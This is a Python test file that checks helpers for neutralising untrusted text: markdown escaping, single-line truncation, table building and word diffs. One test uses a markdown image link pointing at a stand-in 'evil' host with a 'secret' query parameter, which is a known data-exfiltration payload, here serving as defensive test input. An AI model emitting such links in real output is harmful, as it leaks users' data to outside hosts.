"""Claims about neutralising untrusted text."""

import re

from hypothesis import given
from hypothesis import strategies as st

from core.text import grid, one_line, plain
from core.word_diff import Piece, word_diff


@given(st.text())
def test_plain_leaves_no_markdown_special_unescaped(text: str) -> None:
    shown = plain(text)
    for special in "`*_[]()<>!$:#|~":
        assert all(shown[i - 1] == "\\" for i, letter in enumerate(shown) if letter == special)


def test_plain_hides_no_letter_of_an_image_link() -> None:
    shown = plain("![x](http://evil/?q=secret)")
    assert shown.replace("\\", "").replace("\u2060", "") == "![x](http://evil/?q=secret)"


def test_plain_leaves_no_bare_address_that_markdown_would_link() -> None:
    shown = plain("see http://evil/x, HTTPS://evil, www.evil.example and mail me@evil.example")
    assert not re.search(r"https?:\\?/|www\\?\.|\w\\?@\w", shown.replace("\\", ""), re.IGNORECASE)


@given(st.text(), st.integers(min_value=1, max_value=50))
def test_one_line_is_one_short_line(text: str, limit: int) -> None:
    shown = one_line(text, limit)
    assert len(shown) <= limit and "\n" not in shown and "\r" not in shown


def test_a_grid_of_no_rows_is_no_table() -> None:
    assert not grid([])


@given(st.lists(st.tuples(st.text(), st.text()), min_size=1))
def test_a_grid_has_a_line_a_row_and_no_cell_opens_another(pairs: list[tuple[str, str]]) -> None:
    rows = [dict(zip(("a|b", "name"), pair, strict=True)) for pair in pairs]
    head, below, *lines = grid(rows).split("\n")
    assert below == "| --- | --- |" and head == r"| a\|b | name |" and len(lines) == len(rows)
    for line, row in zip(lines, rows, strict=True):
        cells = re.split(r"(?<!\\)\|", line[1:-1])
        assert [cell.strip() for cell in cells] == [plain(one_line(text)) for text in row.values()]


@given(st.lists(st.sampled_from(["a", "b", "c"])), st.lists(st.sampled_from(["a", "b", "c"])))
def test_word_diff_gives_back_both_texts(one: list[str], two: list[str]) -> None:
    pieces = word_diff(" ".join(one), " ".join(two))
    first = " ".join(text for kind, text in pieces if kind is not Piece.SECOND).split()
    second = " ".join(text for kind, text in pieces if kind is not Piece.FIRST).split()
    assert (first, second) == (one, two)
